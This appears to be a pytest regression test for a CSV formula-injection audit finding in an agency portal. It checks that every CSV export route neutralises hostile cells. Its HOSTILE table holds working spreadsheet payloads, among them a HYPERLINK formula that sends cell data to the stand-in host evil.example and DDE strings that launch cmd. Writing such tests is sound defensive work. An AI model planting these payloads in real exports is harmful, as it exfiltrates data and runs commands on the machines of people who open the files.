"""Audit finding 3: CSV formula injection. Every CSV the portal or a plugin sends goes through
one writer (portal/common/csv_export.py); this test walks every CSV route of the app with
hostile cells seeded wherever free text reaches an export, and fails on a CSV route it does
not know.

The audit's attack: an officer's name and an award number starting with `=`, `+`, `-` or `@`
(also after a tab or CR) went out unchanged in the agency roster export and the roster-check
download, so a coordinator opening them in a spreadsheet ran the formula.
"""

from __future__ import annotations

import csv
import io
import re

import pytest
from sqlalchemy import text

from tests.helpers import services

# What an attacker types: each would run in Excel, LibreOffice or Google Sheets as written.
HOSTILE = {
    "hyperlink": '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "dde": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C notepad'!A0",
    "at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "space": "  =1+1",
    "fullwidth": "\uff1d1+1",
}
NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def neutralised(value: str) -> str:
    """What the export must hold for a hostile value: the same text behind an apostrophe."""
    return "'" + value


def runnable(cell: str) -> bool:
    """Whether a spreadsheet could take this cell for a formula."""
    if NUMBER.fullmatch(cell) or cell.startswith("'"):
        return False
    return cell.lstrip(" \t\r\n\u00a0\u3000").startswith(("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"))


def _seed(world) -> None:
    """Hostile text in every free-text field that reaches an export: officers' and trainers'
    names, award numbers, roll-call agencies and notes."""
    ids = world.ids
    with services(world.app).database.engine.begin() as connection:
        connection.execute(text("UPDATE chp_sro SET name = :v WHERE id = :id"),
                           {"v": HOSTILE["hyperlink"], "id": ids["sro_a"]})
        connection.execute(text("UPDATE chp_award SET award_number = :v WHERE id = :id"),
                           {"v": HOSTILE["dde"], "id": ids["award_a"]})
        connection.execute(text("UPDATE rollcall_showing SET agency = :a, notes = :n WHERE id = :id"),
                           {"a": HOSTILE["minus"], "n": HOSTILE["tab"], "id": ids["showing_a"]})
        connection.execute(text("UPDATE user_account SET name = :v WHERE email = 'coord-a@example.gov'"),
                           {"v": HOSTILE["at"]})


def _roster_upload(world):
    client = world.browser("coordinator")
    rows = [["officer", "award_number", "award_date", "hire_date", "role", "placement_date",
             "training_completed", "expenses_submitted", "notes"],
            [HOSTILE["fullwidth"], HOSTILE["space"], "2026-01-15", "2026-03-01", "initial", "", "", "", HOSTILE["cr"]],
            ["Ofc. Plain", "2026-UL-1", "2026-01-15", "2026-03-01", HOSTILE["hyperlink"], "", "", "", ""]]
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows(rows)
    response = client.post(f"/agencies/{world.ids['agency_a']}/roster/import", data={
        "csrf_token": world.csrf("coordinator"), "as_of": "2026-06-15", "download": "1",
        "roster": (io.BytesIO(out.getvalue().encode()), "roster.csv")}, content_type="multipart/form-data")
    return response, [HOSTILE["cr"], HOSTILE["space"], HOSTILE["fullwidth"]]


# Every CSV route: how to fetch it with hostile data in it, and which hostile values must show.
CSV_ROUTES = {
    "/rollcall/log.csv": lambda w: (w.browser("coordinator").get("/rollcall/log.csv"),
                                    [HOSTILE["minus"], HOSTILE["tab"], HOSTILE["at"]]),
    "/agencies/<agency_id>/roster/export.csv": lambda w: (
        w.browser("coordinator").get(f"/agencies/{w.ids['agency_a']}/roster/export.csv"),
        [HOSTILE["hyperlink"], HOSTILE["dde"]]),
    "/agencies/<agency_id>/roster/import": _roster_upload,
    # the members' certificates: names walked for the property (the world's names are benign here)
    "/agencies/<agency_id>/post-export.csv": lambda w: (
        w.browser("coordinator").get(f"/agencies/{w.ids['agency_a']}/post-export.csv?format=generic-csv"), []),
    # Reports carry course ids, question ids, months and numbers only: no free text reaches them,
    # so they are walked for the property alone (a negative growth figure stays a number).
    "/reports/courses.csv": lambda w: (w.browser("provider").get("/reports/courses.csv"), []),
    "/reports/items.csv": lambda w: (w.browser("provider").get("/reports/items.csv?course=intro-sro-programs"), []),
    "/reports/completions.csv": lambda w: (w.browser("provider").get("/reports/completions.csv"), []),
}


def _route_key(rule) -> str:
    return re.sub(r"<(?:[^:>]+:)?(\w+)>", r"<\1>", rule.rule)


def test_every_csv_route_is_walked(built_world):
    found = {_route_key(rule) for rule in built_world.app.url_map.iter_rules()
             if rule.rule.endswith(".csv") or "roster/import" in rule.rule}
    assert found == set(CSV_ROUTES), f"CSV routes not walked by this test: {found - set(CSV_ROUTES)}"


@pytest.mark.parametrize("route", sorted(CSV_ROUTES))
def test_no_exported_cell_can_run_as_a_formula(world, route):
    _seed(world)
    response, expected = CSV_ROUTES[route](world)
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    assert response.mimetype == "text/csv" and response.headers["Content-Disposition"].startswith("attachment")
    cells = [cell for row in csv.reader(io.StringIO(response.get_data(as_text=True), newline="")) for cell in row]
    assert len(cells) > 1
    assert [cell for cell in cells if runnable(cell)] == []
    for value in expected:  # the text is all there, exactly as typed, behind the apostrophe
        assert neutralised(value) in cells, (value, cells)


def test_the_writer_keeps_numbers_and_plain_text_as_they_are():
    from portal.common.csv_export import csv_text

    rows = [["-135", "+1", "3.5", "-0.25", "Ofc. Adams", "O'Neil", "a=b", "2026-06-15", ""]]
    assert csv_text(["h"] * 9, rows) == "h,h,h,h,h,h,h,h,h\r\n-135,+1,3.5,-0.25,Ofc. Adams,O'Neil,a=b,2026-06-15,\r\n"


@pytest.mark.parametrize("terminator", ["\n", "\r\n"])
def test_a_carriage_return_in_a_cell_never_starts_a_new_row(terminator):
    from portal.common.csv_export import formula_safe_writer

    out = io.StringIO()
    formula_safe_writer(out, lineterminator=terminator).writerows([["a", "x\r=1+1", "y\n@SUM(1)"], ["b", "c", "d"]])
    assert list(csv.reader(io.StringIO(out.getvalue(), newline=""))) == [["a", "x\r=1+1", "y\n@SUM(1)"],
                                                                          ["b", "c", "d"]]
    assert out.getvalue().endswith("b,c,d" + terminator)
